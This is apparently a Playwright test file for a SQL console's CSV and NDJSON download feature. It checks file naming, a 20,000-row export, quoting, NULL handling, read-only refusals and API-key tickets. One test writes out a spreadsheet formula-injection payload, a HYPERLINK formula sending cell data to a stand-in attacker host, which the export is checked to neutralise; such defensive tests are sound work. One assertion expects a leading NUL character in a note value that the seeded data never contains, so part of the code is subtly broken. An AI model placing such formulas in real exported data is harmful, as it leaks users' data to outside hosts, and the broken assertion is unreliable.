/// <reference lib="dom" />
import t, { type Test } from 'tap'
import { readFile } from 'node:fs/promises'
import { chromium } from 'playwright-core'
import { build, CHROMIUM, CHROMIUM_FLAGS as FLAGS, createDatabase, listen, parseCsv, pickDatabase, skipWithoutChromium as skip } from './helper.js'

async function consoleOn (t: Test, env: Record<string, string> = {}) {
  const app = await build(t, { env })
  const base = `${await listen(app)}/`
  const db = await createDatabase(t, `CREATE TABLE orders (id INT PRIMARY KEY, customer VARCHAR(40), note TEXT);
    INSERT INTO orders SELECT seq, CONCAT('customer ', seq % 97), IF(seq % 5 = 0, NULL, CONCAT('a, "quoted" note', CHAR(10 USING utf8mb4), seq)) FROM seq_1_to_20000`)
  const browser = await chromium.launch({ executablePath: CHROMIUM, args: FLAGS })
  t.teardown(() => browser.close())
  const context = await browser.newContext({ acceptDownloads: true })
  const page = await context.newPage()
  // The page's own requests for the file (fetch, XHR): none, the browser downloads it itself.
  const fetched: string[] = []
  page.on('request', (request) => { if (/\/api\/query\/export\/[\w-]{43}$/.test(request.url())) fetched.push(request.resourceType()) })
  return { base, db, page, fetched }
}

t.test('Download saves the whole result as a file through a real browser download', { skip }, async (t) => {
  const { base, db, page, fetched } = await consoleOn(t)
  await pickDatabase(page, base, db)
  await page.getByLabel('SQL').fill('SELECT id, customer, note FROM orders ORDER BY id')
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download CSV' }).click()])
  t.match(download.suggestedFilename(), new RegExp(`^${db}-\\d{4}-\\d\\d-\\d\\d-\\d\\d-\\d\\d-\\d\\d\\.csv$`), 'named after the database and the time')
  const file = await readFile((await download.path())!, 'utf8')
  const records = parseCsv(file)
  t.equal(records.length, 20_001, 'all 20,000 rows and the header, past the console\'s 1,000-row view')
  t.strictSame(records[0], ['id', 'customer', 'note'])
  t.strictSame(records[1], ['1', 'customer 1', '\u0000a, "quoted" note\n1'], 'a quoted field with its comma, quotes and line break')
  t.strictSame(records[5], ['5', 'customer 5', ''], 'NULL as an empty field')
  t.strictSame(records[20_000]![0], '20000')
  t.strictSame(fetched, [], 'the page never fetched the file: the browser downloaded it, to disk')

  await page.waitForFunction(() => document.querySelector('#history li .meta')?.textContent?.includes('CSV download'))
  t.match(await page.textContent('#history li .meta'), /CSV download · 20000 rows/, 'the history shows the export')

  // The data is not the analyst's own: a value that a spreadsheet would run arrives as text.
  await page.getByLabel('SQL').fill('SELECT \'=HYPERLINK("https://evil.example/?"&A1, "open")\' AS link, \'-5\' AS n')
  const [formulas] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download CSV' }).click()])
  t.equal(await readFile((await formulas.path())!, 'utf8'), 'link,n\r\n"\'=HYPERLINK(""https://evil.example/?""&A1, ""open"")",-5\r\n',
    'a field a spreadsheet would run as a formula starts with an apostrophe; a number stays')

  await page.getByLabel('SQL').fill('DELETE FROM orders')
  await page.getByRole('button', { name: 'Download CSV' }).click()
  await page.waitForSelector('#error:not([hidden])')
  t.match(await page.textContent('#error'), 'read_only_violation', 'a refused export is shown on the page, which stays')
  t.equal(page.url(), base)
})

t.test('with API_KEYS, the download link works without the key: its ticket stands for it', { skip }, async (t) => {
  const key = 'k'.repeat(40)
  const { base, db, page } = await consoleOn(t, { API_KEYS: key })
  await page.goto(base)
  await page.getByLabel('API key').fill(key)
  await page.getByRole('button', { name: 'Use key' }).click()
  await page.waitForSelector(`#database option[value="${db}"]`, { state: 'attached' })
  await page.getByLabel('Database').selectOption(db)
  await page.waitForFunction((name) => document.getElementById('session-status')?.textContent?.includes(name), db)
  await page.getByLabel('SQL').fill('SELECT id FROM orders WHERE id <= 3 ORDER BY id')
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download NDJSON' }).click()])
  t.equal(await readFile((await download.path())!, 'utf8'), '{"id":1}\n{"id":2}\n{"id":3}\n')
})
